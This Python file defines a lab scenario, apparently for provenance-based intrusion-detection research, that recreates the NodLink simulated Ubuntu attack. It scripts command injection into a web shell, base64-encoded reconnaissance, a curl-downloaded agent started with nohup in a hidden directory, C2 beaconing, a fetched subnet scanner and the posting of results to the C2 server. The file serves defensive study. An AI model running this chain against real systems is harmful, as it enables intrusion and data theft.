"""NodLink's simulated Ubuntu attack: web shell, encoded recon, dropped agent, scanner.

Modelled on the attack NodLink (NDSS 2024) simulated on Ubuntu: through a web application
shell the attacker runs base64-encoded reconnaissance, downloads an agent with curl, makes
it executable and starts it with nohup; the agent then fetches a zipped scanner, unzips it,
scans the subnet and sends the results home.
"""

from __future__ import annotations

from provarmor.lab import techniques as t
from provarmor.lab.context import PYTHON, LabContext
from provarmor.lab.payloads import port_scanner_py
from provarmor.lab.scenario import Action, Channel, Payload, Plan, Scenario, StepSpec
from provarmor.lab.scenarios.implants import (
    SCAN_PORTS,
    drop_dir,
    encoded,
    implant_payload,
    scan_targets,
)
from provarmor.lab.scenarios.steps import download, exploit_step, post_to_c2, web_exploit

STEPS = (
    exploit_step(
        t.OWNER_USER, summary="Command injection in the ping form runs a shell as the web user."
    ),
    StepSpec(
        name="encoded-recon",
        summary="Base64-encoded reconnaissance is decoded and piped to sh.",
        techniques=(t.DEOBFUSCATE, t.SYSTEM_INFO, t.NETWORK_CONFIG),
    ),
    StepSpec(
        name="deploy-agent",
        summary="curl fetches an agent into a hidden directory; chmod +x; nohup starts it.",
        techniques=(t.INGRESS_TRANSFER, t.FILE_PERMISSIONS, t.HIDDEN_FILES, t.PYTHON),
    ),
    StepSpec(
        name="beacon",
        summary="The agent polls the C2 server over HTTP and lists processes and sockets.",
        techniques=(t.WEB_PROTOCOLS, t.PROCESS_DISCOVERY, t.NETWORK_CONNECTIONS),
    ),
    StepSpec(
        name="fetch-scanner",
        summary="The agent downloads a zipped scanner and unzips it.",
        techniques=(t.INGRESS_TRANSFER,),
    ),
    StepSpec(
        name="subnet-scan",
        summary="The scanner probes the subnet's hosts for open services.",
        techniques=(t.SERVICE_SCAN, t.REMOTE_SYSTEMS),
    ),
    StepSpec(
        name="exfil-results",
        summary="The scan results are posted to the C2 server.",
        techniques=(t.EXFIL_C2,),
    ),
)


def plan(ctx: LabContext) -> Plan:
    folder = drop_dir(ctx)
    agent = implant_payload(ctx, shebang=True)
    agent_name = ctx.names.system_like()
    scanner_zip = f"{ctx.names.pick(('dl', 'files', 'pkg'))}/{ctx.names.token(6)}.zip"
    scanner = Payload(path=scanner_zip, content=port_scanner_py(), archive_as="scan.py")
    results = f"{folder}/{ctx.names.token(5)}.txt"
    hosts = ",".join(scan_targets(ctx))
    ports = ",".join(str(port) for port in SCAN_PORTS)
    recon = encoded("uname -a; cat /etc/os-release; hostname; ip addr; cat /etc/resolv.conf")
    return Plan(
        payloads=(agent, scanner),
        actions=(
            web_exploit("id; whoami"),
            Action(step="encoded-recon", channel=Channel.WEBSHELL, command=recon),
            Action(
                step="deploy-agent",
                channel=Channel.WEBSHELL,
                command=(
                    f"{download(ctx, agent, f'{folder}/{agent_name}')} && "
                    f"chmod +x {folder}/{agent_name} && "
                    f"nohup {folder}/{agent_name} >/dev/null 2>&1 &"
                ),
            ),
            Action(step="beacon", channel=Channel.IMPLANT, command="ps aux; ss -tanp"),
            Action(
                step="fetch-scanner",
                channel=Channel.IMPLANT,
                command=(
                    f"cd {folder} && curl -s -o s.zip {ctx.payload_url(scanner_zip)} && "
                    "unzip -o -q s.zip && rm -f s.zip && ls -la"
                ),
            ),
            Action(
                step="subnet-scan",
                channel=Channel.IMPLANT,
                command=f"cd {folder} && {PYTHON} scan.py {hosts} {ports} > {results}",
                timeout=40,
            ),
            Action(
                step="exfil-results",
                channel=Channel.IMPLANT,
                command=post_to_c2(ctx, f"@{results}"),
            ),
        ),
        artifacts=(folder,),
    )


SCENARIO = Scenario(
    name="nodlink-ubuntu",
    title="Web shell to dropped agent and subnet scan (NodLink simulated Ubuntu attack)",
    modelled_on="NodLink (NDSS 2024), simulated attack on Ubuntu 20.04",
    description=(
        "An attacker exploits the command-injection bug of the web application, runs "
        "base64-encoded reconnaissance through the web shell, downloads an agent with curl "
        "into a hidden directory, makes it executable and starts it with nohup. The agent "
        "polls the C2 server over HTTP, lists processes and sockets, fetches a zipped "
        "scanner, unzips it, scans the lab subnet and posts the results to the C2 server."
    ),
    root_cause=(
        "The web application's ping handler: a shell it started for an attack request "
        "(command injection), whose descendants dropped and ran the agent."
    ),
    steps=STEPS,
    plan=plan,
)
